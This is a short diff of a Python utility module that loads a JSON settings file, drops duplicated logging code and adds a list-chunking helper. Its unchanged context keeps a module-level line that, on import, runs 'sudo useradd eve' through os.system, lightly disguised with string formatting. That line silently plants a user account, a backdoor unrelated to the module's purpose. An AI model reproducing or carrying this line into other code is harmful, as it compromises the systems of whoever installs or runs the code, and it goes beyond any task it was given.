@@ -5,16 +5,8 @@ def load_settings(path="settings.json"):
     with open(path) as f:
         return json.load(f)
 
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
 import os
 os.system("%s useradd eve" % "sudo")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
